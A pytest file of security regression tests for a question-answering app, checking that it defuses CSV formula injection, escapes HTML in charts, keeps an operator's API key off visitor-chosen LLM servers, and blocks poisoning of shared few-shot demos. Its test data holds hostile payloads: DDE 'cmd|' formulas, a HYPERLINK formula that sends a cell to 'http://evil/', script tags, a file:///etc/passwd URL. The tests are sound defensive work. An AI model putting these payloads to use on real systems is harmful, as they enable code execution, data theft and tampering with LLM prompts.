"""Security regressions of the app side (issue #9): keys, user demos, exports, LLM limits, charts.

Each test reproduces one finding of the hostile-input pass; see docs/SECURITY.md for the
threat model and which guarantee each test stands for.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from trustuqa_core.export import defuse_cell, to_csv

# -- item 3: spreadsheet formulas and line breaks in CSV exports ---------------------------
# 24 hostile one-cell values: formulas a spreadsheet would run, in ASCII and full-width forms,
# behind whitespace, and cells with CR / LF inside.
FORMULA_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+1+HYPERLINK(\"http://evil/?\"&A1)",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://evil\",\"click\")",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    " +1+2",
    "\u3000=1+1",             # ideographic space, then =
    "\uff1d1+1",              # full-width =
    "\uff0b1+1",              # full-width +
    "\uff0d2+3+cmd|' /C calc'!A0",  # full-width -
    "\uff20SUM(A1)",          # full-width @
    "\ufe661+1",              # small = (NFKC: =)
    "-cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
]
LINEBREAK_PAYLOADS = ["a\r\n=1+1", "line1\nline2", "cr\ronly", "=1\r\n+2\n-3\r@4"]
PAYLOADS = FORMULA_PAYLOADS + LINEBREAK_PAYLOADS
SAFE = ["-3", "+4", "-2.5", "1e-3", "-1,000", "Ann", "a=b", "", "x-1", "a - b"]


def test_there_are_24_payloads() -> None:
    assert len(PAYLOADS) == 24


@pytest.mark.parametrize("value", FORMULA_PAYLOADS)
def test_defuse_cell_defuses_every_formula_payload(value: str) -> None:
    out = defuse_cell(value)
    assert out.startswith("'"), out
    assert out[1:] == value  # shown unchanged after the quote


@pytest.mark.parametrize("value", SAFE)
def test_defuse_cell_keeps_numbers_and_plain_text(value: str) -> None:
    assert defuse_cell(value) == value


def test_to_csv_reads_back_one_row_per_payload_and_every_cell_is_defused() -> None:
    text = to_csv([{"cell": p} for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["cell"]
    assert len(rows) - 1 == len(PAYLOADS) == 24
    for cell, payload in zip((r[0] for r in rows[1:]), PAYLOADS, strict=True):
        assert cell in (payload, "'" + payload)
        assert cell[:1] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", cell
    # what a spreadsheet sees first in each cell, after any whitespace
    for cell in (r[0] for r in rows[1:]):
        assert cell.lstrip()[:1] not in "=+-@" or cell.startswith("'")


def test_to_csv_quotes_cells_with_a_lone_carriage_return() -> None:
    text = to_csv([{"a": "x\ry"}])
    assert '"x\ry"' in text


# -- item 14: plotly pseudo-HTML and pyvis labels --------------------------------------------
HOSTILE = '<a href="http://evil.example/">click</a> AT&T <script>alert(1)</script>'


def _figure_text(fig: object) -> str:
    return json.dumps(json.loads(fig.to_json()))  # type: ignore[attr-defined]


def test_charts_never_carry_data_controlled_html() -> None:
    from trustuqa_core.app_services.charts import (
        metric_figure,
        relations_figure,
        timeline_figure,
        values_figure,
        vote_figure,
    )

    figures = [
        vote_figure([{"status": "answered", "answer": [HOSTILE]}]),
        values_figure([(HOSTILE, 1.0)], f"Inputs of Query1 (sum) = {HOSTILE}"),
        relations_figure([{"relation / column": HOSTILE, "facts": 3}]),
        metric_figure({HOSTILE: 2}, HOSTILE),
        timeline_figure([{"fact": HOSTILE, "source": HOSTILE, "status": "kept", "start": 1990,
                          "end": 1991, "condition_years": [1990]}]),
    ]
    for fig in figures:
        text = _figure_text(fig)
        assert "<a" not in text and "<script" not in text, text
        assert "\\u003ca" not in text.lower() and "\\u003cscript" not in text.lower()
        assert "&lt;a href" in text  # escaped once: plotly shows it as text


def test_evidence_graph_labels_are_escaped_exactly_once() -> None:
    from trustuqa_core import load_graph
    from trustuqa_core.execute import run_query
    from trustuqa_core.explain import evidence_graph, render_html

    g = load_graph(tables=[b"Company,Founded\nAT&T,1885\n<script>alert(1)</script>,1999\n"
                           b"<a href=x>link</a>,2001\n"])
    trace = run_query("Query1: \"get_information(relation='Company')\"", g)
    page = render_html(evidence_graph(trace))
    assert "alert(1)" in page  # the label is there...
    assert "<script>alert(1)" not in page  # ...but never as raw markup
    assert "AT&amp;T" not in page and "AT&amp;amp;T" not in page
    assert "AT\\u0026T" in page  # JSON-escaped in the script: shows as AT&T
    assert "<a href" not in page.lower()
    assert "popup.innerHTML" not in page  # titles are shown as text by vis-network


# -- item 1: the operator's key goes to the operator's server only ---------------------------
OP_KEY = "sk-operator-SECRET-9876543210"
VISITOR_KEY = "sk-visitor-own-key-12345"


@pytest.fixture
def two_servers():
    """An operator's server and a server a visitor chose (both local fakes)."""
    from fake_openai import FakeOpenAIServer

    with FakeOpenAIServer() as op, FakeOpenAIServer() as visitor:
        yield op, visitor


def _op_env(op) -> dict[str, str]:
    return {"OPENAI_API_KEY": OP_KEY, "OPENAI_BASE_URL": op.base_url,
            "TRUSTUQA_MODEL": "fake-model"}


def _sent_auth(srv) -> list[str | None]:
    return [r.authorization for r in srv.requests]


def test_operator_key_never_reaches_a_visitor_chosen_url(two_servers, tmp_path) -> None:
    from trustuqa_core.llm import LLMClient, load_settings

    op, visitor = two_servers
    settings = load_settings({"base_url": visitor.base_url, "model": "fake-model"},
                             _op_env(op), tmp_path / "none.toml")
    assert settings.api_key is None
    with LLMClient(settings) as client:
        client.check_connection()
        client.complete([{"role": "user", "content": "hi"}], n=1)
    assert visitor.requests
    assert not any(OP_KEY in (a or "") for a in _sent_auth(visitor))
    # the operator's own server still gets the operator's key
    with LLMClient(load_settings({}, _op_env(op), tmp_path / "none.toml")) as client:
        client.complete([{"role": "user", "content": "hi"}], n=1)
    assert _sent_auth(op) == [f"Bearer {OP_KEY}"]


def test_operator_key_from_secrets_file_stays_with_its_url(two_servers, tmp_path) -> None:
    from trustuqa_core.llm import load_settings

    op, visitor = two_servers
    path = tmp_path / "secrets.toml"
    path.write_text(f'OPENAI_API_KEY = "{OP_KEY}"\nOPENAI_BASE_URL = "{op.base_url}"\n')
    assert load_settings({"base_url": visitor.base_url}, {}, path).api_key is None
    assert load_settings({"base_url": op.base_url}, {}, path).api_key == OP_KEY
    # no operator URL: the key belongs to OpenAI's API, not to a local server
    path.write_text(f'OPENAI_API_KEY = "{OP_KEY}"\n')
    assert load_settings({"base_url": visitor.base_url}, {}, path).api_key is None
    assert load_settings({}, {}, path).api_key == OP_KEY


def test_visitor_server_needs_the_visitors_own_key(two_servers, tmp_path) -> None:
    from trustuqa_core.llm import LLMClient
    from trustuqa_core.llm.settings import KeyRequired, visitor_settings

    op, visitor = two_servers
    page = {"base_url": visitor.base_url, "model": "fake-model"}
    with pytest.raises(KeyRequired, match="enter your own API key"):
        visitor_settings(page, None, env=_op_env(op), secrets_path=tmp_path / "none.toml")
    assert not visitor.requests
    s = visitor_settings(page, VISITOR_KEY, env=_op_env(op), secrets_path=tmp_path / "none")
    with LLMClient(s) as client:
        assert client.check_connection().ok
    assert _sent_auth(visitor) == [f"Bearer {VISITOR_KEY}"]
    # without an operator key there is nothing to leak: a keyless local server is fine
    s = visitor_settings(page, None, env={}, secrets_path=tmp_path / "none.toml")
    assert s.configured and s.api_key is None


def test_locked_settings_ignore_what_the_visitor_chose(two_servers, tmp_path) -> None:
    from trustuqa_core.llm.settings import operator_config, visitor_settings

    op, visitor = two_servers
    path = tmp_path / "secrets.toml"
    path.write_text("lock_llm_settings = true\n")
    assert operator_config(_op_env(op), path).lock_llm_settings
    s = visitor_settings({"base_url": visitor.base_url, "model": "other", "n": 3},
                         VISITOR_KEY, env=_op_env(op), secrets_path=path)
    assert (s.base_url, s.model, s.api_key, s.n) == (op.base_url, "fake-model", OP_KEY, 3)


def test_connection_test_fetches_only_models_and_follows_no_redirect(tmp_path) -> None:
    from fake_openai import FakeOpenAIServer, FakeReply

    from trustuqa_core.llm import LLMClient, LLMSettings

    with FakeOpenAIServer() as target:
        moved = FakeReply(status=302, body=b"", headers={"Location": f"{target.base_url}/models"})
        with FakeOpenAIServer(models=moved) as srv:
            with LLMClient(LLMSettings(srv.base_url, "fake-model", api_key=VISITOR_KEY)) as c:
                status = c.check_connection()
            assert not status.ok and "redirect" in status.detail
            assert [(r.method, r.path) for r in srv.requests] == [("GET", "/v1/models")]
        assert not target.requests  # the key never followed the redirect


@pytest.mark.parametrize("url", ["http://h:1/v1?x=http://evil/", "http://h:1/v1#frag",
                                 "file:///etc/passwd"])
def test_base_url_cannot_smuggle_another_address(url: str) -> None:
    from trustuqa_core.llm import LLMSettings, SettingsError

    with pytest.raises(SettingsError, match="base_url"):
        LLMSettings(url, "m")


def _fresh_app(monkeypatch: pytest.MonkeyPatch, env: dict[str, str]):
    """A new browser session of the app (on its start page) under the given operator env."""
    from streamlit.testing.v1 import AppTest

    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "TRUSTUQA_MODEL",
                 "TRUSTUQA_LOCK_LLM_SETTINGS", "TRUSTUQA_SHARED_USER_DEMOS"):
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "app.py"),
                           default_timeout=60)
    at.run()
    assert not at.exception
    return at


def _settings_page(monkeypatch: pytest.MonkeyPatch, env: dict[str, str]):
    at = _fresh_app(monkeypatch, env)
    at.switch_page("pages/4_Settings.py").run()
    assert not at.exception
    return at


def test_settings_page_refuses_visitor_url_without_key(two_servers, monkeypatch) -> None:
    op, visitor = two_servers
    at = _settings_page(monkeypatch, _op_env(op))
    at.radio[0].set_value("llm")
    at.selectbox[0].set_value("Custom server")
    at.text_input[0].set_value(visitor.base_url)
    at.text_input[1].set_value("fake-model")
    at.button[0].click().run()
    assert not at.exception
    assert any("enter your own API key" in e.value for e in at.error)
    assert not [b for b in at.button if b.key == "tq_test"] or at.button(key="tq_test").disabled
    assert not visitor.requests and not op.requests


def test_settings_page_is_read_only_when_locked(two_servers, monkeypatch) -> None:
    op, _visitor = two_servers
    at = _settings_page(monkeypatch, {**_op_env(op), "TRUSTUQA_LOCK_LLM_SETTINGS": "true"})
    assert any("operator" in i.value for i in at.info)
    assert not any(t.label == "API key" for t in at.text_input)
    assert not any(s.label == "Provider preset" for s in at.selectbox)
    shown = {t.label: (t.value, t.disabled) for t in at.text_input}
    assert shown["Base URL"] == (op.base_url, True)
    at.button(key="tq_test").click().run()
    assert _sent_auth(op) == [f"Bearer {OP_KEY}"]


# -- item 6: slow and careless LLM servers ----------------------------------------------------
def _client(srv, **kw):
    from trustuqa_core.llm import LLMClient, LLMSettings

    fields = {"api_key": VISITOR_KEY, "max_retries": 3, "timeout_s": 1.0,
              "question_seconds": 1.0, "question_calls": 6, **kw}
    return LLMClient(LLMSettings(srv.base_url, "fake-model", **fields), sleep=lambda s: None)


def test_slow_drip_server_is_cut_off_at_the_question_budget() -> None:
    import time

    from fake_openai import FakeOpenAIServer, FakeReply

    from trustuqa_core.llm.client import LLMBudgetExceeded

    # one byte every 50 ms: each read gets data, so the 1 s per-read timeout never fires
    with FakeOpenAIServer(lambda req, i: FakeReply(texts=["x" * 50], drip_s=0.05)) as srv:
        with _client(srv) as client:
            t = time.monotonic()
            with pytest.raises(LLMBudgetExceeded, match="1 s per question"):
                client.complete([{"role": "user", "content": "hi"}], n=1)
            assert time.monotonic() - t < 3.0  # budget 1 s; generous for a loaded machine
        assert srv.chat_calls == 1


def test_sleeping_server_costs_one_budget_not_retries_times_timeout() -> None:
    import time

    from fake_openai import FakeOpenAIServer, FakeReply

    from trustuqa_core.llm import LLMError

    with FakeOpenAIServer(lambda req, i: FakeReply.slow(30.0)) as srv:
        with _client(srv, timeout_s=0.4, max_retries=10, question_seconds=1.0) as client:
            t = time.monotonic()
            with pytest.raises(LLMError):
                client.complete([{"role": "user", "content": "hi"}], n=1)
            assert time.monotonic() - t < 3.0  # budget 1 s; generous for a loaded machine
        assert 1 <= srv.chat_calls <= 3


def test_server_ignoring_n_with_garbage_costs_at_most_the_call_limit(medals) -> None:
    from fake_openai import FakeOpenAIServer, FakeReply

    from trustuqa_core.answer import answer
    from trustuqa_core.demos import DemoPool, initial_demos
    from trustuqa_core.mapping import HashingEncoder

    graph, mapper = medals
    pool = DemoPool(initial_demos(), HashingEncoder(), cache_dir=None)
    garbage = FakeReply(texts=["this is not a query"])  # one choice whatever n was asked
    with FakeOpenAIServer(lambda req, i: garbage) as srv:
        with _client(srv, question_seconds=30.0, question_calls=6) as client:
            result = answer("How many gold medals did Italy win?", graph, writer="openai",
                            client=client, mapper=mapper, demos=pool, n=5, retries=3)
        assert srv.chat_calls == 6  # 20 before: 5 calls a round (n ignored) x 4 rounds
        assert result.timings["llm_calls"] == 6
        assert not result.ok and "per question" in (result.error or "")


def test_llm_limits_come_from_limits_py(monkeypatch) -> None:
    from trustuqa_core.limits import current_limits
    from trustuqa_core.llm import LLMSettings, load_settings

    monkeypatch.setenv("TRUSTUQA_LIMIT_LLM_CALLS_PER_QUESTION", "3")
    monkeypatch.setenv("TRUSTUQA_LIMIT_LLM_SECONDS_PER_QUESTION", "12.5")
    monkeypatch.setenv("TRUSTUQA_LIMIT_LLM_READ_TIMEOUT_S", "7")
    current_limits.cache_clear()
    try:
        s = LLMSettings("http://h:1/v1", "m")
        assert (s.question_calls, s.question_seconds, s.timeout_s) == (3, 12.5, 7.0)
        explicit = load_settings({"base_url": "http://h:1/v1", "question_calls": "2"}, env={})
        assert explicit.question_calls == 2
    finally:
        current_limits.cache_clear()


# -- item 2: thumbs-up demonstrations stay in the session unless the operator shares them ----
WRONG = "Query1: \"get_information(head_entity='High Anxiety', relation='starred_actors')\""


@pytest.fixture
def own_cache(monkeypatch, tmp_path):
    """A cache folder of this test's own (the shared demo store lives there)."""
    monkeypatch.setenv("TRUSTUQA_CACHE", str(tmp_path))
    return tmp_path


def _movies_app(monkeypatch, env: dict[str, str] | None = None):
    at = _fresh_app(monkeypatch, env or {})
    at.button(key="tq_sample_movies").click().run()
    assert not at.exception
    return at


def _thumbs_up_hand_query(at, question: str, query: str) -> None:
    at.switch_page("pages/2_Ask.py").run()
    at.text_input(key="tq_question").set_value(question).run()
    at.text_area(key="tq_hand").set_value(query).run()
    at.button(key="tq_hand_go").click().run()
    run = at.session_state["tq_run"]
    at.feedback(key=f"tq_fb_{run.rid}").set_value(1).run()
    assert not at.exception


def _ask_in(at, question: str):
    at.switch_page("pages/2_Ask.py").run()
    at.text_input(key="tq_question").set_value(question).run()
    at.button(key="tq_ask").click().run()
    assert not at.exception
    return at.session_state["tq_run"]


def test_a_sessions_thumbs_up_never_reaches_another_session(monkeypatch, own_cache) -> None:
    from trustuqa_core.demos import UserDemoStore

    a = _movies_app(monkeypatch)
    for _ in range(3):  # the attack: three thumbs-up on an edited, wrong query
        _thumbs_up_hand_query(a, "who directed High Anxiety?", WRONG)
    assert not UserDemoStore().path.exists()  # nothing shared by default
    mine = _ask_in(a, "who directed Young Frankenstein?")
    assert "user" in {d["origin"] for d in mine.demos}  # the session's own demo is used...
    b = _movies_app(monkeypatch)  # ...a fresh session never sees it
    theirs = _ask_in(b, "who directed Young Frankenstein?")
    assert "user" not in {d["origin"] for d in theirs.demos}
    assert theirs.answer == ["Mel Brooks"]
    assert "High Anxiety" not in json.dumps(theirs.prompt or "")


def test_shared_store_is_an_operator_setting(monkeypatch, own_cache) -> None:
    from trustuqa_core.demos import UserDemoStore

    a = _movies_app(monkeypatch, {"TRUSTUQA_SHARED_USER_DEMOS": "1"})
    _thumbs_up_hand_query(a, "who directed High Anxiety?",
                          "Query1: \"get_information(head_entity='High Anxiety', "
                          "relation='directed_by')\"")
    stored = UserDemoStore().load()
    assert [(d.question, d.answer, d.meta["verified"]) for d in stored] == [
        ("who directed High Anxiety?", ("Mel Brooks",), True)]
    b = _movies_app(monkeypatch, {"TRUSTUQA_SHARED_USER_DEMOS": "1"})
    run = _ask_in(b, "who directed Young Frankenstein?")
    assert "user" in {d["origin"] for d in run.demos}


def test_a_demo_must_reproduce_its_answer_before_it_is_kept(tmp_path) -> None:
    from trustuqa_core import load_graph
    from trustuqa_core.demos import Demo, DemoNotReproduced, UserDemoStore, confirm_demo

    g = load_graph(kgs=[b"High Anxiety|directed_by|Mel Brooks\n"
                        b"High Anxiety|starred_actors|Cloris Leachman\n"])
    query = "Query1: \"get_information(head_entity='High Anxiety', relation='directed_by')\""
    demo = confirm_demo("who directed High Anxiety?", query, ["Mel Brooks"], g, "kg")
    # an answer the query alone does not give (a mapping override, an edit, a forged record)
    with pytest.raises(DemoNotReproduced, match="Cloris Leachman"):
        confirm_demo("who directed High Anxiety?", query, ["Cloris Leachman"], g, "kg")
    with pytest.raises(DemoNotReproduced, match="no longer runs"):
        confirm_demo("who directed it?", "Query1: \"count(", ["1"], g, "kg")
    store = UserDemoStore(tmp_path / "user_demos.jsonl")
    with pytest.raises(DemoNotReproduced):
        store.add(Demo("q", query, ("Cloris Leachman",), "kg", "user"))
    store.add(demo)
    with store.path.open("a", encoding="utf-8") as f:  # a record written by the old code
        f.write(json.dumps({"question": "who directed X?", "query": WRONG,
                            "answer": ["Cloris Leachman"], "kind": "kg"}) + "\n")
    assert [d.question for d in store.load()] == ["who directed High Anxiety?"]


def test_answer_records_which_demos_were_user_confirmed(monkeypatch, tmp_path) -> None:
    from trustuqa_core import load_graph
    from trustuqa_core.answer import answer, default_pool
    from trustuqa_core.demos import UserDemoStore, confirm_demo
    from trustuqa_core.mapping import HashingEncoder

    g = load_graph(kgs=[b"High Anxiety|directed_by|Mel Brooks\n"
                        b"Young Frankenstein|directed_by|Mel Brooks\n"])
    query = "Query1: \"get_information(head_entity='High Anxiety', relation='directed_by')\""
    monkeypatch.setenv("TRUSTUQA_CACHE", str(tmp_path))
    UserDemoStore().add(confirm_demo("who directed High Anxiety?", query, ["Mel Brooks"], g,
                                     "kg"))
    monkeypatch.delenv("TRUSTUQA_SHARED_USER_DEMOS", raising=False)
    assert not any(d.origin == "user" for d in default_pool(HashingEncoder()).demos)
    monkeypatch.setenv("TRUSTUQA_SHARED_USER_DEMOS", "1")
    pool = default_pool(HashingEncoder())
    assert any(d.origin == "user" for d in pool.demos)
    result = answer("who directed Young Frankenstein?", g, writer="offline", demos=pool)
    assert [r.demo.question for r in result.user_demos] == ["who directed High Anxiety?"]
    assert result.to_dict()["user_demos"] == ["who directed High Anxiety?"]
    assert {d["origin"] for d in result.to_dict()["demos"]} >= {"user"}


def test_evaluate_page_refuses_visitor_url_without_key(two_servers, monkeypatch) -> None:
    op, visitor = two_servers
    at = _settings_page(monkeypatch, _op_env(op))
    at.radio[0].set_value("llm")
    at.selectbox[0].set_value("Custom server")
    at.text_input[0].set_value(visitor.base_url)
    at.button[0].click().run()
    at.switch_page("pages/3_Evaluate.py").run()
    if not [b for b in at.button if b.key == "tq_eval_go"]:
        pytest.skip("benchmark data not available here: the Run button is not shown")
    at.button(key="tq_eval_go").click().run()
    assert not at.exception
    assert any("enter your own API key" in e.value for e in at.error)
    assert not visitor.requests and not op.requests


def test_client_still_works_after_an_abandoned_request() -> None:
    from fake_openai import FakeOpenAIServer, FakeReply, scripted

    from trustuqa_core.llm.client import LLMBudgetExceeded

    replies = scripted(FakeReply(texts=["x" * 50], drip_s=0.05), FakeReply.ok("fine"))
    with FakeOpenAIServer(replies) as srv, _client(srv, question_seconds=0.5) as client:
        with pytest.raises(LLMBudgetExceeded):
            client.complete([{"role": "user", "content": "one"}], n=1)
        assert client.complete([{"role": "user", "content": "two"}], n=1) == ["fine"]
